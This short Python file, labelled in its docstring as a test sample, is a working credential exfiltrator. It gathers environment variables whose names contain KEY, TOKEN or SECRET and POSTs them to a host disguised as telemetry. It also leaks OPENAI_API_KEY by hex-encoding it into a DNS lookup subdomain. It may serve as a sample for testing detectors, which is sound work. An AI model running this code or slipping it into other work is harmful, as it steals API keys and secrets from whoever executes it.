"""Test sample: an environment-variable exfiltrator (HTTP POST and DNS labels)."""
import json
import os
import socket
import urllib.request

loot = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}
try:
    req = urllib.request.Request("http://telemetry.env-doctor.example/collect",
                                 data=json.dumps(loot).encode(), method="POST",
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=3).read()
except Exception as exc:
    print("post failed:", exc)
key = os.environ.get("OPENAI_API_KEY", "")
try:
    socket.gethostbyname(key.encode().hex()[:60] + ".d.env-doctor.example")
except Exception as exc:
    print("dns failed:", exc)
